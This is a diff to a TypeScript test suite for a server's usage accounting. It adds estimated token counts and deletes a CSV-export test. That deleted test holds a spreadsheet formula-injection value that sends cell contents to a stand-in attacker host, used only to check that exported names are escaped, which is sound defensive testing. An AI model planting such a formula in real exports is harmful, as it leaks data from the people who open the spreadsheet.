@@ -2,14 +2,13 @@ import { Database } from "bun:sqlite";
 import { afterEach, describe, expect, setSystemTime, test } from "bun:test";
 import { join } from "node:path";
 import { ADMIN } from "../../../src/principal.ts";
-import { answerChat, answering } from "../../support/chat-agent.ts";
+import { answerChat } from "../../support/chat-agent.ts";
 import { startModelScene } from "../../support/model-scene.ts";
-import { readCsv } from "../../support/read-csv.ts";
 import { ADMIN_KEY, startTestServer, type TestServer } from "../../support/server.ts";
 import { openTestFile } from "../../support/store.ts";
 import { until } from "../../support/until.ts";
 import { addLimitedUser, callerOf } from "../../support/user-caller.ts";
-import { V2_HELLO, type V2AgentOptions } from "../../support/v2-agent.ts";
+import { type AskFrame, V2_HELLO, type V2AgentOptions } from "../../support/v2-agent.ts";
 
 const NOON = Date.UTC(2026, 10, 23, 12);
 const DAY_MS = 86_400_000;
@@ -40,7 +39,7 @@ function rowsIn({ data }: TestServer): Record<string, unknown>[] {
 const usage = { prompt_tokens: 7, completion_tokens: 3 };
 const NO_DETAILS = { cached_tokens: 0, cache_creation_tokens: 0, reasoning_tokens: 0 };
 const NO_TOKENS = { prompt_tokens: 0, completion_tokens: 0, ...NO_DETAILS };
-const EMPTY = { failed: 0, ...NO_TOKENS, uncounted: 0, duration_ms: 0 };
+const EMPTY = { failed: 0, ...NO_TOKENS, estimated: 0, uncounted: 0, duration_ms: 0 };
 
 /** Answers with token counts, without, or not at all, as the model's name says. */
 const byModel: V2AgentOptions = {
@@ -76,14 +75,17 @@ describe("the rows", () => {
 
     const common = { user_id: user.user_id, agent: agent.ready.agent, tries: 1 };
     const chat = { ...common, surface: "chat/completions", status: 200, outcome: "ok" };
-    const counted = { prompt_tokens: 7, completion_tokens: 3 };
-    const none = { prompt_tokens: null, completion_tokens: null };
+    const counted = { prompt_tokens: 7, completion_tokens: 3, tokens_estimated: 0 };
+    const none = { prompt_tokens: null, completion_tokens: null, tokens_estimated: 0 };
+    const [, uncounted] = agent.frames.filter(({ type }) => type === "ask") as AskFrame[];
+    const input = Math.ceil((uncounted?.body.length ?? 0) / 4);
+    const estimated = { prompt_tokens: input, completion_tokens: 1, tokens_estimated: 1 };
     const noDetails = { cached_tokens: null, cache_creation_tokens: null, reasoning_tokens: null };
     const rows = rowsIn(server);
     expect(rows).toEqual(
       [
         { ...chat, ...counted, model: "m" },
-        { ...common, ...none, surface: "ask", status: 200, outcome: "ok", model: "silent about figures" },
+        { ...chat, ...estimated, surface: "ask", model: "silent about figures" },
         { ...chat, ...none, model: "broken", status: 500, outcome: "agent_failed", first_byte_ms: null },
         { ...chat, ...counted, model: "m" },
         { ...chat, ...counted, model: "m", user_id: null },
@@ -117,7 +119,7 @@ describe("the rows", () => {
     await running[1];
     await server.stop();
     expect(rowsIn(server).map(({ outcome, prompt_tokens }) => [outcome, prompt_tokens])).toEqual([
-      ["ok", null],
+      ["ok", 7],
       ["ok", 7],
       ["draining", null],
     ]);
@@ -129,13 +131,9 @@ describe("the rows", () => {
     await stop();
     const store = openTestFile(join(data, "server.db"));
     const row = {
-      requestId: "req",
-      principal: ADMIN,
-      agent: undefined,
-      model: undefined,
-      surface: "ask",
-      outcome: "no_agent",
-    } as const;
+      ...{ requestId: "req", principal: ADMIN, agent: undefined, model: undefined },
+      ...({ surface: "ask", outcome: "no_agent" } as const),
+    };
     const figures = {
       upstreamStatus: undefined,
       tries: 0,
@@ -145,7 +143,8 @@ describe("the rows", () => {
     };
     for (let days = 8; days < 12; days++) {
       const at = NOON - days * DAY_MS;
-      store.usage.record({ ...row, ...figures, at, inputTokens: undefined, outputTokens: undefined });
+      const tokens = { inputTokens: undefined, outputTokens: undefined, tokensEstimated: false };
+      store.usage.record({ ...row, ...figures, ...tokens, at });
     }
     await store.close();
     const server = await startTestServer(["--usage-days", "9"], { data });
@@ -174,6 +173,14 @@ describe("GET /admin/usage", () => {
 
   const sums = (asks: number, more: object = {}) => ({ asks, ...EMPTY, ...more });
   const counted = (asks: number) => ({ prompt_tokens: 7 * asks, completion_tokens: 3 * asks });
+  /** The estimate of the request whose upstream counts nothing: a body of 48 bytes, and the answer `fine`. */
+  const ESTIMATE = { prompt_tokens: 12, completion_tokens: 1, estimated: 1 };
+  const more = (one: typeof ESTIMATE, other: ReturnType<typeof counted>) => ({
+    prompt_tokens: one.prompt_tokens + other.prompt_tokens,
+    completion_tokens: one.completion_tokens + other.completion_tokens,
+    estimated: one.estimated,
+  });
+  const ANNS = more(ESTIMATE, counted(1));
 
   test("the usage is summed for the last 30 days by day, or by the groups in the query", async () => {
     const { server, agent, ann, bob } = await scene();
@@ -184,13 +191,13 @@ describe("GET /admin/usage", () => {
       by: ["day"],
       truncated: false,
       usage: [
-        { day: "2026-11-21", ...sums(2, { ...counted(1), uncounted: 1 }) },
+        { day: "2026-11-21", ...sums(2, ANNS) },
         { day: "2026-11-23", ...sums(3, { ...counted(2), uncounted: 1, failed: 1 }) },
       ],
     });
     const by = async (query: string) => (await usageOf(server, query)).body.usage;
     const [most, ...others] = await by("by=user");
-    expect(most).toEqual({ user: ann.user_id, ...sums(3, { ...counted(2), uncounted: 1 }) });
+    expect(most).toEqual({ user: ann.user_id, ...sums(3, more(ANNS, counted(1))) });
     // They have the same number of requests.
     expect(others).toHaveLength(2);
     expect(others).toContainEqual({ user: bob.user_id, ...sums(1, { uncounted: 1, failed: 1 }) });
@@ -199,7 +206,7 @@ describe("GET /admin/usage", () => {
       { model: "m", agent: agent.ready.agent, ...sums(2, counted(2)) },
       { model: "broken", agent: agent.ready.agent, ...sums(1, { uncounted: 1, failed: 1 }) },
     ]);
-    expect(await by("by=")).toEqual([sums(5, { ...counted(3), uncounted: 2, failed: 1 })]);
+    expect(await by("by=")).toEqual([sums(5, { ...more(ANNS, counted(2)), uncounted: 1, failed: 1 })]);
     expect(await by("by=day&user=admin")).toEqual([{ day: "2026-11-23", ...sums(1, counted(1)) }]);
     expect(await by(`by=model&user=${bob.user_id}`)).toMatchObject([{ model: "broken" }]);
     expect(await by("user=nobody")).toEqual([]);
@@ -255,7 +262,7 @@ describe("GET /admin/usage", () => {
     const { body } = await usageOf(server, "by=model", `/admin/users/${ann.user_id}/usage`);
     const anns = [
       { model: "m", ...sums(2, counted(2)) },
-      { model: "silent about figures", ...sums(1, { uncounted: 1 }) },
+      { model: "silent about figures", ...sums(1, ESTIMATE) },
     ];
     expect(body.usage).toEqual(anns);
 
@@ -271,28 +278,5 @@ describe("GET /admin/usage", () => {
       });
     expect((await usageOf(server, "by=", "/api/usage")).body.usage).toEqual([sums(1, counted(1))]);
     expect((await fetch(`${server.url}/api/usage`)).status).toBe(401);
-  });
-
-  test("the usage is also a table for spreadsheets, in which no name that an agent chose is a formula", async () => {
-    const models = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1", "plain, with a comma"];
-    const { server, post } = await startModelScene({
-      ...answering(usage),
-      hello: { ...V2_HELLO, models: models.map((id) => ({ id })) },
-    });
-    for (const model of models) await post("chat/completions", { model, messages: [] });
-    const { response, text } = await usageOf(server, "by=user,model&format=csv");
-    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
-    expect(response.headers.get("content-disposition")).toBe('attachment; filename="usage.csv"');
-    const [header, ...rows] = readCsv(text);
-    expect(header?.slice(0, -1)).toEqual([
-      ...["user", "model", "asks", "failed", "prompt_tokens", "completion_tokens"],
-      ...["cached_tokens", "cache_creation_tokens", "reasoning_tokens", "uncounted"],
-    ]);
-    const figures = ["1", "0", "7", "3", "0", "0", "0", "0"];
-    expect(rows.map((row) => row.slice(0, -1)).toSorted()).toEqual(
-      [`'${models[0]}`, `'${models[1]}`, models[2] ?? ""].map((model) => ["", model, ...figures]).toSorted(),
-    );
-    const cut = await usageOf(server, "by=model&format=csv&limit=2");
-    expect([readCsv(cut.text).length, cut.response.headers.get("x-truncated")]).toEqual([3, "true"]);
   });
 });
